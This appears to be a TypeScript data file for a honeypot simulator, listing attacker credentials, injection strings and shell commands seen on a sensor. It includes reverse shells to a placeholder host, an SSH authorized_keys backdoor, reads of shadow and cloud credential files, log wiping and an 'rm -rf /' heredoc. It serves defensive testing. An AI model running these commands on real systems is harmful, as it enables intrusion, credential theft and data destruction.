/**
 * What attackers type, as the reference sensor (sensor-aws-2026-03) saw it: weighted user
 * names and passwords, the bots' command scripts, commands a person types, rare commands,
 * hostile text aimed at whatever displays it, scanner banners, tunnel targets, malware names
 * and the parts leaked credentials are made of. Plain lists, no behaviour.
 */

// Credentials, weighted roughly as on the reference sensor (root in 40% of attempts,
// 123456 the commonest password).
export const USERNAMES: readonly (readonly [string, number])[] = [
  ["root", 278], ["admin", 35], ["ubuntu", 13], ["user", 10], ["deploy", 10], ["postgres", 8],
  ["user1", 7], ["minecraft", 6], ["test", 5], ["jenkins", 5], ["ec2-user", 5], ["git", 5],
  ["steam", 5], ["frappe", 5], ["debian", 4], ["oracle", 4], ["webuser", 4], ["app", 4],
  ["huawei", 4], ["pi", 4], ["hadoop", 3], ["ubnt", 3], ["zabbix", 3], ["mysql", 3],
  ["sysadmin", 3], ["testuser", 3], ["gitlab", 3], ["guest", 3], ["support", 3], ["ftpuser", 3],
  ["tomcat", 2], ["nagios", 2], ["elastic", 2], ["centos", 2], ["vagrant", 2], ["docker", 2],
  ["solana", 2], ["sol", 2], ["validator", 2], ["node", 2], ["dev", 2], ["www-data", 1],
];

export const PASSWORDS: readonly (readonly [string, number])[] = [
  ["123456", 69], ["admin", 16], ["123", 13], ["password", 9], ["12345678", 9], ["ubuntu", 9],
  ["123456789", 8], ["12345", 7], ["1", 7], ["1234", 6], ["Huawei12", 6], ["root", 6],
  ["1111", 5], ["qwerty", 4], ["111111", 4], ["admin123", 4], ["qwe123", 4], ["Aa123456", 4],
  ["linux", 4], ["123123", 3], ["1234567", 3], ["qwer1234", 3], ["Pass@123", 3], ["102030", 3],
  ["1qaz@WSX", 3], ["admin1234", 3], ["P@ssw0rd", 3], ["abc123", 2], ["000000", 2], ["test", 2],
  ["passw0rd", 2], ["root123", 2], ["toor", 2], ["changeme", 2], ["raspberry", 2], ["1q2w3e4r", 2],
  ["welcome", 1], ["letmein", 1], ["Admin@123", 1], ["master", 1], ["hola", 1], ["peter", 1],
];

/**
 * Text attackers really send, aimed at whatever later displays or stores it: SQL and shell
 * injection, HTML, Slack mentions, InfluxDB line protocol, MQTT wildcards, control characters.
 */
export const HOSTILE_TEXT = [
  '"; DROP TABLE users; --',
  "admin' OR '1'='1",
  "root,admin,guest",
  "#!/bin/sh",
  "<script>alert(document.cookie)</script>",
  "<!channel> root access for sale",
  "<!here> <@U024BE7LH>",
  "pass\nword",
  "first\r\nsecond",
  "tab\there",
  "\u001b[31mred\u001b[0m",
  "nul\u0000byte",
  "$(reboot)",
  "`id`",
  "a+b/c d=e,f",
  "cpu,host=x value=1 1700000000",
  "honeyflow/alerts/#",
  "+/+/#",
  "*bold* _it_ ~strike~ `code`",
  "\\\\server\\share",
  "\u{1D563}\u{1D560}\u{1D560}\u{1D565}",
  "пароль",
  "密码123",
];

export const HOSTILE_COMMANDS = [
  'echo "<script>alert(1)</script>" > /var/www/html/index.html',
  "echo '<!channel> pwned, #1 \"root\" access'",
  "printf 'a,b\\n'\necho second line",
  'curl -d "k=v,x=y" "http://example.invalid/?q=<img src=x onerror=alert(1)>#frag"',
  "echo -e '\\x1b[2J\\x07'",
  "echo \u001b]0;owned\u0007",
  "cat <<'EOF' > /tmp/x\n#!/bin/sh\nrm -rf / --no-preserve-root\nEOF",
];

// Commands of the bots seen on the reference sensor; each entry is one session's input.
const UNAME_RECON =
  "export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin:$PATH; " +
  "uname=$(uname -s -v -n -m 2>/dev/null); arch=$(uname -m 2>/dev/null); " +
  "uptime=$(cat /proc/uptime 2>/dev/null | cut -d. -f1); " +
  'cpus=$( (nproc 2>/dev/null || /usr/bin/nproc 2>/dev/null || grep -c "^processor" /proc/cpuinfo 2>/dev/null) | head -1); ' +
  'echo "UNAME:$uname"; echo "ARCH:$arch"; echo "UPTIME:$uptime"; echo "CPUS:$cpus"';
const SMS_AND_TELEGRAM_LOOKUP =
  "ls -la ~/.local/share/TelegramDesktop/tdata /home/*/.local/share/TelegramDesktop/tdata " +
  "/dev/ttyGSM* /dev/ttyUSB-mod* /var/spool/sms/* /var/log/smsd.log /etc/smsd.conf* " +
  "/usr/bin/qmuxd /var/qmux_connect_socket /etc/config/simman /dev/modem* /var/config/sms/*";
const AUTHORIZED_KEYS_BACKDOOR =
  'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~';

export const BOT_COMMAND_SCRIPTS: readonly (readonly [readonly string[], number])[] = [
  [["uname -s -v -n -r -m"], 103],
  [['echo -e "\\x6F\\x6B"'], 94],
  [[UNAME_RECON, "uname -s -v -n -m 2 > /dev/null", "uname -m 2 > /dev/null", "cat /proc/uptime 2 > /dev/null | cut -d. -f1"], 13],
  [[AUTHORIZED_KEYS_BACKDOOR], 6],
  [["/ip cloud print", "ifconfig", "uname -a", "cat /proc/cpuinfo", "ps | grep '[Mm]iner'", "ps -ef | grep '[Mm]iner'", SMS_AND_TELEGRAM_LOOKUP, "locate D877F783D5D3EF8Cs", "echo Hi | cat -n"], 3],
  [["grep -c ^processor /proc/cpuinfo"], 4],
  [["nproc 2>/dev/null || (grep -c '^processor' /proc/cpuinfo 2>/dev/null) || echo 0", "grep -c ^processor /proc/cpuinfo 2 > /dev/null"], 1],
];

/** What Mirai-style IoT brute-forcers type once in: the shell escapes of busybox routers, then a probe of the binary. */
export const BUSYBOX_COMMAND_SCRIPTS: readonly (readonly [readonly string[], number])[] = [
  [["enable", "system", "shell", "sh", "/bin/busybox MIORI"], 6],
  [["cd /tmp || cd /var/run || cd /mnt || cd /root || cd /", "/bin/busybox cat /proc/self/exe || cat /proc/self/exe", "/bin/busybox MIORI"], 3],
  [["cat /proc/cpuinfo | grep name | wc -l", "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'", "ls -lh $(which ls)", "crontab -l", "w", "uname -m"], 4],
];

export const TYPICAL_COMMANDS = [
  "uname -a", "cat /proc/cpuinfo", "whoami", "pwd", "hostname", "ls -la /", "ps aux | head -10",
  "uptime", "free -m", "w", "id", "cat /etc/issue", "grep -c ^processor /proc/cpuinfo",
  "netstat -tulpn | head -10", "mount | head -5", "history | tail -5", "ssh -V", "df -h",
  "lscpu", "nproc", "cat /etc/os-release", "crontab -l", "ls -la ~/.ssh", "cd /tmp", "ls",
  "cat /proc/cpuinfo | grep name | wc -l", "free -m | grep Mem | awk '{print $2}'",
  "uname -m 2>/dev/null || echo unknown", "last | head -5", "ifconfig", "top -bn1 | head -5",
];

/** Commands that are rare on a honeypot: privilege escalation, pivoting, anti-forensics. */
export const RARE_COMMANDS = [
  "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'",
  "nc -lvnp 4444 -e /bin/sh",
  "socat TCP-LISTEN:1337,reuseaddr,fork EXEC:/bin/bash,pty,stderr",
  "dd if=/dev/sda bs=512 count=1 | xxd | head",
  "iptables -F && iptables -X && iptables -P INPUT ACCEPT",
  "history -c && unset HISTFILE && export HISTSIZE=0",
  "cat /etc/shadow",
  "find / -perm -4000 -type f 2>/dev/null",
  "gcc -static -o /dev/shm/.x /dev/shm/.x.c",
  "insmod /dev/shm/diamorphine.ko",
  "echo 0 > /proc/sys/kernel/randomize_va_space",
  "tcpdump -i any -w /dev/shm/cap.pcap port 22",
  "nmap -sS -p- 10.0.0.0/24",
  "openssl enc -aes-256-cbc -salt -in /etc/passwd -out /dev/shm/p.enc -k x",
  "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.13.37.1 4444 > /tmp/f",
  "docker run -v /:/mnt --rm -it alpine chroot /mnt sh",
  "kubectl get secrets --all-namespaces -o yaml",
  "cat ~/.aws/credentials ~/.kube/config 2>/dev/null",
  "strace -f -p 1 -e trace=read",
  "sqlite3 ~/.mozilla/firefox/*.default/cookies.sqlite .dump",
  "chattr +i /etc/passwd /etc/shadow",
  "ld.so --preload /dev/shm/libhide.so /bin/ls",
  "echo 'kernel.modules_disabled=1' >> /etc/sysctl.conf",
  "shred -u -z /var/log/wtmp /var/log/btmp /var/log/lastlog",
  "systemctl disable --now auditd apparmor",
  "awk 'BEGIN{s=\"/inet/tcp/0/10.13.37.1/4444\";while(1){printf \"> \" |& s;s |& getline c;while((c |& getline)>0)print |& s;close(c)}}'",
];

/** First words that Cowrie's emulated shell does not know, so it logs `command.failed`. */
export const UNKNOWN_TO_COWRIE = new Set([
  "/ip", "lscpu", "nproc", "locate", "python3", "nc", "socat", "gcc", "insmod", "tcpdump",
  "nmap", "openssl", "docker", "kubectl", "strace", "sqlite3", "chattr", "ld.so", "shred",
  "systemctl", "mkfifo", "awk", "xxd", "base64",
]);

export const SCANNER_BANNERS: readonly (readonly [string, number])[] = [
  ["GET / HTTP/1.1", 15],
  ["", 9],
  ["SSH-2.0-libssh2_1.11.1", 4],
  ["SSH-2.0-Go", 3],
  ["GET /favicon.ico HTTP/1.1", 3],
  ["SSH-2.0-libssh_0.9.6", 2],
  ["SSH-2.0-OpenSSH_8.2p1 Ubuntu-4ubuntu0.5", 2],
  ["\u0016\u0003\u0001\u0000{\u0001\u0000\u0000w\u0003\u0003", 7],
];

export const TUNNEL_PROBE_TARGETS: readonly (readonly [string, number])[] = [
  ["google.com", 443], ["ifconfig.me", 80], ["api.ipify.org", 443], ["1.1.1.1", 53],
  ["www.bing.com", 443], ["ip-api.com", 80],
];

/** Ports a tunnel scan tries first; the rest of its ports are random. */
export const SERVICE_PORTS = [
  21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1433, 1521, 2049,
  2375, 3306, 3389, 5432, 5900, 5985, 6379, 8080, 8443, 9200, 11211, 27017,
];

export const MALWARE_NAMES = ["x86_64", "bins.sh", "kinsing", "xmrig", ".sysd", "tsunami", "mips", "arm7", "dota3.tar.gz", "kswapd0"];
/** Reserved example domains (RFC 2606), so that synthetic logs never accuse a real host. */
export const MALWARE_HOSTS = ["cdn-update.example", "repo.example.net", "dl.example.org"];

/** Real upload digests from the reference sensor (e3b0... is SHA-256 of an empty file). */
export const UPLOADED_SSHD_DIGESTS = [
  "94f2e4d8d4436874785cd14e6e6d403507b8750852f7f2040352069a75da4c00",
  "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
  "f81c3b8ec666088d0fa14068eb07f948e0d78d481e2f0e88218d02f65bdcafbb",
  "b9d9d2dc7e26734d4932d3994051b3b7b40cdbab93c79f3ef301c35d815c5d68",
];

export const FIRST_NAMES = ["james", "mary", "john", "linda", "michael", "sarah", "david", "laura", "kevin", "anna", "marco", "giulia", "lukas", "sofia", "pierre", "yuki", "chen", "olga", "ahmed", "fatima"];
export const LAST_NAMES = ["smith", "jones", "brown", "rossi", "muller", "martin", "garcia", "kowalski", "tanaka", "wang", "ivanova", "haddad", "silva", "nguyen", "schmidt", "bianchi"];
export const MAIL_DOMAINS = ["gmail.com", "yahoo.com", "outlook.com", "mail.ru", "web.de", "libero.it"];
export const PASSWORD_WORDS = ["Summer", "Winter", "Monkey", "Dragon", "Sunshine", "Football", "Princess", "Shadow", "Welcome", "Liverpool", "Juventus", "Iloveyou", "Freedom", "Qwerty", "Secret"];
export const PASSWORD_SUFFIXES = ["", "1", "12", "123", "!", "2023", "2024", "2025", "@123", "#1", "1!", "69", "007"];
